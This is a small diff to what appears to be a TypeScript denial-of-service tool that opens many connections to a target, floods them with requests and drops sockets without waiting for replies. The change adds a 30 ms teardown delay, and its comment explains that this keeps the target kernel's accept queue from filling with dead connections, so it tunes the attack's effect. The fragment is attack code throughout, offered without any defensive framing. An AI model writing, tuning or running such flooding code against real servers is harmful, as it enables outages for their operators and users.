@@ -14,6 +14,8 @@ import { changeKeys } from "./new-keys.ts";
 /** The kernel drops the packets of more that wait to be accepted. */
 const OPENED_AT_A_TIME = 200;
 const SLOW_READ_EVERY_MS = 1000;
+/** Sooner, and connections that are gone fill the queue of the kernel. */
+const LEAVES_AFTER_MS = 30;
 const STATUS = Buffer.from("HTTP/1.1 ");
 
 const attack = ATTACKS.find(({ name }) => name === process.argv[2]);
@@ -47,7 +49,7 @@ function sendMore(socket: net.Socket, target: Target, requests: number): void {
   const bytes = Buffer.concat(Array.from({ length: requests }, () => send(target, count++)));
   socket.write(
     bytes,
-    () => responses === "not waited for" && setTimeout(() => socket.destroy(), 2),
+    () => responses === "not waited for" && setTimeout(() => socket.destroy(), LEAVES_AFTER_MS),
   );
 }
 
